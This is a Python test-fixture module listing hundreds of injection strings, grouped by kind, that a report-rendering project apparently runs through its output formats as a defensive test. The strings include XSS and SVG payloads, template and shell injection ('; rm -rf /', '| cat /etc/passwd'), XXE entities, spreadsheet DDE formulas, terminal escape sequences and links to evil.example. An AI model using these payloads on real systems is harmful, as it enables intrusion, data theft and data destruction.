"""Texts that people could write and that no report may act on: what each tries, and the text itself.

Every format that shows what people wrote is tested with all of them; see tests/test_injection.py.
"""

from typing import NamedTuple


class Payload(NamedTuple):
    """One text; `kind` says what it tries."""

    kind: str
    text: str


_TEXTS: dict[str, tuple[str, ...]] = {
    "element": (
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example/x.js></script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=//evil.example></iframe>",
        "<object data=//evil.example></object>", "<embed src=//evil.example>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/a.css>",
        "<form action=//evil.example><input name=q></form>", "<button formaction=//evil.example>x</button>",
        "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
        "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)></select>",
        "<textarea autofocus onfocus=alert(1)></textarea>", "<keygen autofocus onfocus=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</summary></details><script>alert(1)</script>", "</main></body></html><script>alert(1)</script>",
        "<!-- --><script>alert(1)</script>", "--><script>alert(1)</script><!--",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><x/>", "<!DOCTYPE html><html>", "<plaintext>",
        "<xmp><script>alert(1)</script></xmp>", "<b>bold</b> <i>italic</i> <u>under</u>", "a < b and b > c", "<", ">",
        "<a", "<3 from all of us", "</", "<!--", "<table><tr><td>x</td></tr></table>", "<h1>Level 5 of 5</h1>",
        "<dialog open>Level 5</dialog>",
    ),
    "attribute": (
        '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)",
        '"><script>alert(1)</script>', "'><script>alert(1)</script>", '"/><img src=x onerror=alert(1)>',
        '" style="position:fixed;inset:0', '" id="report', '" autofocus onfocus="alert(1)" x="',
        '\\"><script>alert(1)</script>', 'x" srcdoc="<script>alert(1)</script>', '" href="javascript:alert(1)',
        'x\' y="z', '"', "'", "''", '""', "`", "=", "/>", '" aria-label="Level 5', '" class="unseen', "' hidden '",
        '" dir="rtl',
    ),
    "url": (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)",
        "<a href='javascript:alert(1)'>x</a>", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "https://evil.example/",
        "http://evil.example", "www.evil.example", "//evil.example/x", "ftp://evil.example/x",
        "mailto:a@evil.example", "someone@evil.example", "tel:+15551234567", "file:///etc/passwd",
        "\\\\evil.example\\share", "blob:https://x/1", "[x](javascript:alert(1))", "<https://evil.example/>",
        "see https://evil.example/a?b=c&d=e#f for more",
    ),
    "svg": (
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "</svg><script>alert(1)</script>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "</text><script>alert(1)</script>",
        "</desc></svg><img src=x onerror=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        '<svg><use href=\'data:image/svg+xml,<svg id=x xmlns="http://www.w3.org/2000/svg"/>#x\'/></svg>',
        "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>", "url(#part-level)",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    ),
    "css": (
        "</style><style>*{display:none}</style>", "<style>@import '//evil.example/a.css';</style>",
        "body{background:url(//evil.example)}", "expression(alert(1))", "-moz-binding:url(//evil.example)",
        "};*{display:none}", "/*", "*/ body{display:none} /*", "@import url(//evil.example);", "\\3c script\\3e",
        "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>", "behavior:url(#default#time2)",
    ),
    "template": (
        "{{ 7*7 }}", "{{7*7}}", "{% print 7*7 %}", "{%raw%}x{%endraw%}", "{# comment #}", "${7*7}", "#{7*7}",
        "<%= 7*7 %>", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{{ self._TemplateReference__context }}",
        "{% include '/etc/passwd' %}", "{{ page.title }}", "[[7*7]]", "@(7*7)", "*{7*7}",
        "{{constructor.constructor('alert(1)')()}}", "<%- x %>", "$(touch /tmp/x)", "`id`", "; rm -rf /",
        "| cat /etc/passwd", "&& id", "$HOME", "%PATH%", "!history",
    ),
    "placeholder": (
        "%(x)s", "%(agency)s", "%s", "%d", "%%", "%", "100%", "%n", "%(", "{x}", "{}", "{0}", "{agency}", "{{", "}}",
        "{", "}", "{0.__class__}", "{x!r:>10}", "$x", "${x}", "$$", "\\1", "\\g<0>", "\\", "\\n", "\\x1b", "\\u202e",
        "&amp;", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;", "&nbsp;", "&", "&copy", "&notin;",
    ),
    "control": (
        "a\x00b", "a\x07b", "a\x08\x08\x08b", "a\x0bb", "a\x0cb", "a\rb", "a\tb", "a\x7fb", "a\x85b", "a\u2028b",
        "a\u2029b", "\x00<script>alert(1)</script>", "a\x1ab", "a\ufeffb", "a\u200bb", "a\u2060b", "a\xadb",
        "a\ufff9b\ufffac\ufffb", "tag\U000e0041\U000e0042", "a\u180eb", "a\u061cb", "a\u200cb\u200dc",
    ),
    "ansi": (
        "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[Hgone", "\x1b]0;title\x07",
        "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
        "\x9b31mred", "\x9d8;;https://evil.example\x9clink", "\x1b[1A\x1b[2KLevel 5 of 5", "\x1bc", "\x1b(0lqqk",
        "\x1b[?1049h", "\x1b]52;c;ZXZpbA==\x07", "\x1b[6n", "\x1bP$q\x1b\\", "\x1b[8mhidden\x1b[28m",
        "\x1b]1337;File=:AAAA\x07", "\x1b[200~paste\x1b[201~", "\x0e\x0f",
    ),
    "bidi": (
        "Agency\u202eytefas\u202c", "\u202dabc\u202c", "\u2066abc\u2069", "\u2067abc\u2069", "\u2068abc\u2069",
        "\u200eabc", "\u200fabc", "safe\u202etxt.exe", "\u202a\u202b\u202c\u202d\u202e", "x\u2067y\u2066z",
        "\u05d0\u05d1\u05d2 (x) 12", "\u0645\u0631\u062d\u0628\u0627 <b>x</b>", "\u202e<script>alert(1)</script>",
    ),
    "markdown": (
        "# Level 5", "## x", "- x", "* x", "+ x", "1. x", "1) x", "12. x", "> x", "```\nx\n```", "~~~", "    code",
        "---", "***", "___", "===", "x\n===", "x\n---", "**bold**", "__bold__", "_it_", "*it*", "~~gone~~", "`code`",
        "[x](y)", "![x](//evil.example/x.png)", "[x]: //evil.example", "[^1]: note", "| a | b |", "a|b", "- [ ] x",
        "- [x] done", "<!-- x -->", "\\*x\\*", "$$x$$", "$x$", ":smile:", "==mark==", "^up^", "~down~",
        "Term\n: meaning", "[toc]", "\\", "a\\\nb", "- - x", "-", "+", "1.", "*",
    ),
    "formula": (
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("//evil.example","x")', "\t=1+1",
        "\r=1+1", '=IMPORTXML("//evil.example","//a")', '=DDE("cmd";"/C calc";"x")', "1,2", "a;b", 'a","b', "a\n=1+1",
        "'=1+1", "{=1+1}",
    ),
    "typeset": (
        "\\input{/etc/passwd}", "\\write18{id}", '#read("/etc/passwd")', '#include "/etc/passwd"',
        "#set page(width: 1pt)", "$ x $", '#eval("1")', "<label>", "@ref", "= Heading", '#link("//evil.example")[x]',
        "\\href{javascript:1}{x}", "~", "_x_", "#show: none", '#panic("x")', "// comment", "/* comment */",
    ),
    "xml": (
        "]]>", "<w:p/>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&x;", "<?php echo 1 ?>", "{\\rtf1}", "_x000D_",
        "<xi:include href='x'/>",
    ),
    "blank": (
        "a\xa0b", "12\u202f000 $", "\xab\xa0oui\xa0\xbb", "a  b", "a \n b", "a\n\nb", "line one\nline two",
    ),
    "long": (
        "x" * 199, "word " * 39, "\xe9" * 150, "\U0001f600" * 100, "a\u0301" * 90,
    ),
}  # fmt: skip

PAYLOADS = tuple(Payload(kind, text) for kind, texts in _TEXTS.items() for text in texts)
KINDS = tuple(_TEXTS)
